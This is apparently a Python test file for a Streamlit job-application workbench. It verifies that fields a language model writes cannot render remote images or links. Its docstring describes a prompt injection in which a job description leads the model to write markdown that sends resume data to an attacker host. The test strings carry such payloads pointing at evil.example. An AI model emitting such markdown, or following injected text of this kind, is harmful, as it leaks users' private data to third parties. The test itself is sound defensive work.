"""Workbench results render no remote image and no link, whatever the model wrote (issue 19, finding 2).

A JD that talks the model into writing `![](https://evil/?q=<resume>)` would make the browser send resume
data out when the user looks at the result. The real renderers run through AppTest with every text field
hostile; each Markdown element they produce is rendered with markdown-it (CommonMark, as the browser's
renderer parses it) and must hold no <img> and no <a>.
"""

from __future__ import annotations

from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

_md = MarkdownIt("commonmark", {"html": False}).enable("table")


def _views() -> None:
    from ui.workbench_views import render_grounding, render_interview, render_job, render_match, render_retrieved

    evil = "![x](https://evil.example/?q=resume) [go](https://evil.example/l) <https://evil.example/a>"
    render_job(
        {
            "company": evil,
            "title": evil,
            "must_have": [evil, "a` ![](https://evil.example/k) `b"],
            "nice_to_have": [evil],
            "responsibilities": [evil],
        }
    )
    render_match(
        {
            "overall_score": 70,
            "strengths": [evil],
            "gaps": [{"gap": evil, "action": evil}],
            "conclusion": evil,
            "coverage": {"must_have": [{"keyword": evil, "status": "missing"}]},
        }
    )
    render_retrieved([{"heading": evil, "content": evil, "source": evil}, evil])
    render_interview(
        {
            "self_intro_1min": evil,
            "self_intro_3min": evil,
            "likely_questions": [{"question": evil, "outline": [evil]}],
            "star_stories": [{"gap": evil, "situation": evil, "task": evil, "action": evil, "result": evil}],
            "questions_to_ask": [evil],
        }
    )
    render_grounding({"flags": [{"line": 1, "text": evil, "token": evil, "kind": "number"}]})


def test_no_result_field_renders_an_image_or_a_link() -> None:
    at = AppTest.from_function(_views, default_timeout=30)
    at.session_state["lang"] = "en"
    at.run()
    assert not at.exception
    rendered = [str(el.value) for kind in ("markdown", "caption") for el in getattr(at, kind)]
    assert len(rendered) > 15
    for text in rendered:
        html = _md.render(text)
        assert "<img" not in html and "<a " not in html, text
    assert any("evil.example" in text for text in rendered)  # shown as text (code), not dropped silently
